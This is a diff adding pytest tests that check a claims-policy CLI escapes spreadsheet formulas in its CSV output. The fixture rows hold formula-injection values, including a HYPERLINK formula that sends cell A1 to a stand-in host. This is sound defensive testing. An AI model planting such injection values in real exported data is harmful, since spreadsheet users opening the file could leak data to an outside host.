@@ -433,3 +433,63 @@ def test_fmt_neither_reads_nor_rewrites_a_linked_file_outside_the_tree(tree: Pat
     assert result.exit_code == 2
     assert "E0806" in result.stderr.splitlines()[0]
     assert target.read_text(encoding="utf-8") == messy
+
+
+# ------------------------------------------------------------------ CSV output and spreadsheets
+
+FORMULA_CLAIMS = (
+    "claim_id,provider,insurer,patient,code,start_date,amount,referrer\n"
+    '"=HYPERLINK(""http://x/?""&A1,""y"")",01234567,3311,p1,990001,2025-03-03,60.00,huisarts\n'
+    "+1+1,01234567,3311,p2,990001,2025-03-03,-12.50,huisarts\n"
+    "@SUM(1),01234567,3311,p3,990001,2025-03-03,60.00,huisarts\n"
+    "-2+3,01234567,3311,p4,990001,2025-03-03,60.00,huisarts\n"
+    "-12,01234567,3311,p5,990001,2025-03-03,60.00,huisarts\n"
+)
+FUNDED = "meekijkconsult: funded as Meekijkconsult (production) (001_158c496e59021edc.txt:1189)"
+
+
+@pytest.mark.parametrize("engine", ["interpret", "batch"])
+def test_csv_output_cells_never_start_a_formula(tmp_path: Path, engine: str) -> None:
+    claims = tmp_path / "claims.csv"
+    claims.write_text(FORMULA_CLAIMS, encoding="utf-8")
+    policy = "tests/golden/decisions/core.policy"
+    result = _cli("check", policy, "--claims", str(claims), "--format", "csv", "--engine", engine)
+    assert result.stdout.splitlines() == [
+        "claim_id,status,claimed,payable,title,funding,reasons",
+        f'"\'=HYPERLINK(""http://x/?""&A1,""y"")",accepted,60.00,60.00,meekijkconsult,production,{FUNDED}',
+        f"'+1+1,accepted,-12.50,-12.50,meekijkconsult,production,{FUNDED}",  # amounts stay numbers
+        f"'@SUM(1),accepted,60.00,60.00,meekijkconsult,production,{FUNDED}",
+        f"'-2+3,accepted,60.00,60.00,meekijkconsult,production,{FUNDED}",
+        f"-12,accepted,60.00,60.00,meekijkconsult,production,{FUNDED}",  # a plain number
+    ]
+    jsonl = _cli("check", policy, "--claims", str(claims), "--format", "jsonl", "--engine", engine)
+    assert [json.loads(line)["claim_id"] for line in jsonl.stdout.splitlines()] == [
+        '=HYPERLINK("http://x/?"&A1,"y")',
+        "+1+1",
+        "@SUM(1)",
+        "-2+3",
+        "-12",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "+1"),
+        ("+1a", "'+1a"),
+        ("-12.50", "-12.50"),
+        ("-12.", "'-12."),
+        ("-", "'-"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=1", "a=1"),
+        ("", ""),
+        ("'=1", "'=1"),
+    ],
+)
+def test_spreadsheet_cell(text: str, cell: str) -> None:
+    from policylang.io.spreadsheet import spreadsheet_cell
+
+    assert spreadsheet_cell(text) == cell
